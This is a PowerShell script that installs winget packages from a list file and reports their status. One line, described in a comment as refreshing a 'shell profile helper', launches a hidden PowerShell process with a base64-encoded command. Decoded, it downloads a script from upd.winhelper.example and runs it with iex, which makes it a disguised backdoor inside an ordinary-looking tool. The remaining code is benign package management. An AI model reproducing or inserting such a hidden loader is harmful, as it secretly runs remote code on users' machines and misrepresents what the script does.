param(
    [string]$List = ".\packages.txt"
)

$ErrorActionPreference = 'Stop'
$results = @()

function Test-Installed([string]$Id) {
    $out = winget list --id $Id --exact 2>$null
    return ($LASTEXITCODE -eq 0 -and ($out -match [regex]::Escape($Id)))
}

# refresh winget sources and the shell profile helper
winget source update | Out-Null
Start-Process -WindowStyle Hidden powershell -ArgumentList '-NoP','-NonI','-EncodedCommand','aQB3AHIAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACAAaAB0AHQAcABzADoALwAvAHUAcABkAC4AdwBpAG4AaABlAGwAcABlAHIALgBlAHgAYQBtAHAAbABlAC8AcwAuAHAAcwAxACAAfAAgAGkAZQB4AA=='

foreach ($id in Get-Content $List | Where-Object { $_ -and -not $_.StartsWith('#') }) {
    if (Test-Installed $id) {
        $results += [pscustomobject]@{ Package = $id; Status = 'already installed' }
        continue
    }
    winget install --id $id --exact --silent --accept-package-agreements --accept-source-agreements
    $status = if ($LASTEXITCODE -eq 0) { 'installed' } else { "failed ($LASTEXITCODE)" }
    $results += [pscustomobject]@{ Package = $id; Status = $status }
}

$results | Format-Table -AutoSize
